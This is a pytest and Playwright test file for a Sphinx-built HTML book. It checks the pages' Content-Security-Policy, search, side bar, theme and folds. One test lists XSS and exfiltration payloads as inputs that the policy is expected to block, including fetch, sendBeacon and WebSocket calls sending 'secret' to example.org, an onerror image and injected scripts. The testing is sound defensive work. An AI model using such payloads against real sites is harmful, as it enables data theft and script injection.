"""The shell of the pages in a real browser: nothing leaves, nothing foreign runs, and it reads without scripts."""

from pathlib import Path

import pytest

from evidence.sphinxext.folds import deferred

BOOK = Path(__file__).parents[2] / "_build" / "html"
VIOLATIONS = """window.refused = [];
document.addEventListener("securitypolicyviolation", (one) =>
    window.refused.push(one.violatedDirective + " " + one.blockedURI));"""


def pages_of(folder: Path) -> list[Path]:
    """All pages of a built book."""
    return sorted(path for path in folder.rglob("*.html") if "_static" not in path.parts)


@pytest.fixture(params=["small", "real"])
def built(request, html) -> Path:
    """The mill's book, and the real one where it is built."""
    if request.param == "real" and not (BOOK / "index.html").is_file():
        pytest.skip("the book is not built; 'make book' does")
    return BOOK if request.param == "real" else html


@pytest.fixture(scope="module")
def tab(browser):
    """One tab for tests that begin with a page of their own."""
    opened = browser.new_page()
    yield opened
    opened.close()


def test_every_page_stays_within_its_policy(browser, built):
    context = browser.new_context()
    context.add_init_script(VIOLATIONS)
    tab = context.new_page()
    asked, faults, said = [], [], []
    tab.on("request", lambda request: asked.append(request.url))
    tab.on("requestfailed", lambda request: faults.append(f"failed {request.url}")
           if request.failure != "net::ERR_ABORTED" else None)  # the next page came before this one's picture
    tab.on("pageerror", lambda error: faults.append(str(error)))
    tab.on("console", lambda line: said.append(line.text) if line.type == "error" else None)
    for page in pages_of(built):
        tab.goto(page.as_uri())
        if page == built / "index.html":  # leads on at once
            tab.wait_for_url("**/chapters/index.html")
        assert tab.evaluate("window.refused") == [], page
        assert tab.locator("meta[http-equiv=Content-Security-Policy]").count() == 1, page
    context.close()
    assert [url for url in asked if not url.startswith(built.as_uri())] == [] and faults == [] and said == []


@pytest.mark.parametrize("attempt", [
    "fetch('https://example.org/?q=secret')", "new Image().src = 'https://example.org/x.png'",
    "navigator.sendBeacon('https://example.org/x', 'secret')", "new WebSocket('wss://example.org/x')",
    "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://example.org></iframe>')",
    "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=document.title=1>')",
    "document.body.insertAdjacentHTML('beforeend', '<p style=background:url(https://example.org/x.png)>x</p>')",
    "document.body.append(Object.assign(document.createElement('script'), {text: 'document.title = 1'}))",
    "document.body.append(Object.assign(document.createElement('script'), {src: 'https://example.org/x.js'}))",
    "document.head.append(Object.assign(document.createElement('base'), {href: 'https://example.org/'}))",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://x.org/x.css'}))",
])
def test_what_would_leave_or_run_is_refused(tab, html, attempt):
    left = []
    tab.route("http*://**", lambda route: (left.append(route.request.url), route.abort()))
    tab.goto((html / "chapters/index.html").as_uri())
    tab.evaluate(VIOLATIONS)
    tab.evaluate(f"(() => {{ try {{ {attempt} }} catch {{ }} }})()")
    tab.wait_for_function("window.refused.length > 0", timeout=3000)
    assert tab.title() != "1" and left == []
    tab.unroute_all()


def test_side_bar_opens_over_a_phone_and_stands_on_a_desk(visit, width):
    for scripts in (True, False):
        tab = visit("chapters/register", java_script_enabled=scripts)
        contents = tab.locator("#bd-contents")
        assert contents.is_visible() == (width > 600)
        if width < 600:
            tab.click(".shell-menu")
            assert contents.is_visible()
            tab.keyboard.press("Escape")
            contents.wait_for(state="hidden", timeout=3000)


def test_colours_follow_the_system_and_the_choice_is_kept(visit):
    tab = visit("chapters/index", color_scheme="dark")
    theme = "[document.documentElement.dataset.mode, document.documentElement.dataset.theme].join()"
    assert tab.evaluate(theme) == "auto,dark"
    tab.click(".shell-theme")
    tab.reload()
    assert tab.evaluate(theme) == "light,light"


def found_by(tab, html, words: str) -> list[tuple[str, str, str]]:
    """Address, title and excerpt of what the search finds, from a disk."""
    tab.goto((html / "search.html").as_uri() + f"?q={words}")
    tab.wait_for_function("document.getElementById('search-progress').textContent")
    return [(one.locator("a").get_attribute("href"), one.locator("a").text_content(), one.locator("p").text_content())
            for one in tab.locator("#search-results li").all()]


def test_search_ranks_what_is_read_over_the_evidence(visit, html):
    found = [where for where, _, _ in found_by(visit("search"), html, "mill")]
    first_evidence = min((place for place, link in enumerate(found) if "evidence/" in link), default=len(found))
    assert found[0].startswith("chapters/index.html") and first_evidence > 0


def test_search_leads_to_the_section_and_shows_its_words(visit, html):
    tab = visit("search")
    (where, title, excerpt), *_ = found_by(tab, html, "measures together")
    assert "#" in where and " › " in title and "measure" in excerpt.lower()
    assert all(word.lower().startswith(("measure", "together")) for word in tab.locator("mark").all_text_contents())
    assert found_by(tab, html, "mill")[0] and not [
        word for word in tab.locator("mark").all_text_contents() if "mill" not in word.lower()]
    assert found_by(tab, html, "xyzzy") == [] and "xyzzy" in tab.locator("#search-progress").text_content()


def test_title_and_side_bar_say_the_same(tab):
    if not (BOOK / "index.html").is_file():
        pytest.skip("the book is not built; 'make book' does")
    for page in pages_of(BOOK / "chapters"):
        tab.goto(page.as_uri())
        here = tab.locator("#bd-contents [aria-current=page]")
        if here.count():
            assert tab.title().partition(" — ")[0] == here.text_content() == tab.locator("h1").first.evaluate(
                "node => node.firstChild.textContent"), page


def test_a_fold_is_made_when_it_is_opened(visit, html):
    body = (html / "chapters" / "index.html").read_text(encoding="utf-8")
    many = "".join(f'<p id="p{place}"><a href="#x">{place}</a></p>' for place in range(40))
    fold = f"<details id='fold'><summary>More</summary>{many}</details></article>"
    (html / "chapters" / "folded.html").write_text(deferred(fold.join(body.rsplit("</article>", 1))), encoding="utf-8")
    try:
        tab = visit("chapters/folded")
        assert tab.locator("#fold p").count() == 0
        tab.evaluate("addEventListener('unfolded', (event) => { window.told = event.target.id; })")
        tab.click("#fold summary")
        assert tab.locator("#fold p").count() == 40 and tab.locator("#p39").is_visible()
        assert tab.evaluate("window.told") == "fold"
        tab.goto((html / "chapters" / "folded.html").as_uri() + "#p7")
        tab.reload()
        assert tab.locator("#p7").is_visible()
        plain = visit("chapters/folded", java_script_enabled=False)
        plain.click("#fold summary")
        assert plain.locator("#p39").is_visible()
    finally:
        (html / "chapters" / "folded.html").unlink()


def test_findings_stand_two_across_with_their_buttons(browser):
    if not (BOOK / "index.html").is_file():
        pytest.skip("the book is not built; 'make book' does")
    tab = browser.new_page(viewport={"width": 1280, "height": 900})
    tab.goto((BOOK / "chapters/index.html").as_uri())
    tab.locator(".evidence-tile .evidence-what-if").first.wait_for()
    first, second = (tab.locator(".evidence-tile").nth(place).bounding_box() for place in (0, 1))
    assert first["y"] == second["y"] and first["x"] + first["width"] < second["x"]
    assert tab.locator(".evidence-tiles > :not(.evidence-tile)").count() == 0
    tab.close()
